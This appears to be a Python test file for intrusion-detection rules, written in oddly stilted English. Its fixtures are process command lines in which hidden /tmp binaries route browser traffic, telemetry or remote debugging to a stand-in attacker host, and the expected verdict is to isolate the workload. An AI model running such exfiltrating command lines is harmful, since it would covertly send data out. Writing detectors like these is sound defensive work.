"""Programs of the house that tools keep hidden: what leads them outside, or starts them beside others, is no sign."""

from __future__ import annotations

from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
from tests.diagnosis.rules.scenes import SHOP
from tests.diagnosis.rules.test_intrusion__converted import (
    BY_ITSELF,
    BY_SHELL,
    EXE,
    LED,
    NO_SHELL,
    START,
    WHOLE,
    copied,
)
from tests.diagnosis.rules.test_intrusion__obeyed import THIEF, may_be_a_test, site
from tests.diagnosis.rules.tiny import SPACE

CHROME = "/tmp/.cache/puppeteer/chrome/linux-121/chrome"
STARTED = EXE.replace("worker has a process that it did not start", "started")

HOLDS = [
    *(
        may_be_a_test(
            f"a hidden program of the house runs, and exports its own table: {what}",
            copied((500, line), dumps=WHOLE, joins=BY_ITSELF),
        )
        for what, line in (
            ("a browser asks by a proxy", STARTED % f"{CHROME} --headless --proxy-server=http://{THIEF}:3128"),
            ("its proxy is a word of its own", STARTED % f"/tmp/.render/chrome --proxy-server {THIEF}:3128"),
            ("figures are sent on", STARTED % f"/tmp/.tel/otelcol --export-to={THIEF}:4317"),
            ("figures are sent on by OTLP", STARTED % f"/tmp/.tel/agent -v --otlp-endpoint http://{THIEF}:4317"),
            ("a browser of a tool is led outside", STARTED % f"{CHROME} --remote={THIEF}:9222"),
            (
                "a worker runs outside of a pool",
                "INFO worker process started outside of the pool, cmd=/tmp/.cache/bazel/embedded_tools/jdk/bin/java",
            ),
            ("a tool runs outside of the queue", f"INFO child process started outside of job queue, cmd={CHROME}"),
        )
    ),
    may_be_a_test(
        "a browser asks by a proxy, and a shell is refused",
        site(START, (500, STARTED % f"{CHROME} --proxy-server=http://{THIEF}:3128"), (450, NO_SHELL % "default")),
    ),
    *(
        Holds(
            f"a hidden program of nobody runs, and a table is copied: {what}",
            copied((500, line), dumps=WHOLE, joins=BY_ITSELF),
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no("restart_workload", at=SHOP),
        )
        for what, line in (
            (
                "it is led outside over a proxy",
                STARTED % f"/tmp/.x/agent --proxy=198.51.100.4:1080 --url={THIEF}:443",
            ),
            (
                "it was started outside of the supervisor",
                "WARN process spawned outside the supervisor, cmd=/tmp/.x/run",
            ),
            ("it has a folder of a tool, and nobody knows it", f"WARN unexpected child process (cmd={CHROME})"),
        )
    ),
]
DOES_NOT_HOLD = [
    DoesNotHold(
        "it tells of an account of the same name in another namespace that is refused a shell",
        site(START, (500, BY_SHELL % LED), (450, (NO_SHELL % "default").replace(f":{SPACE}:", ":billing:"))),
    ),
]
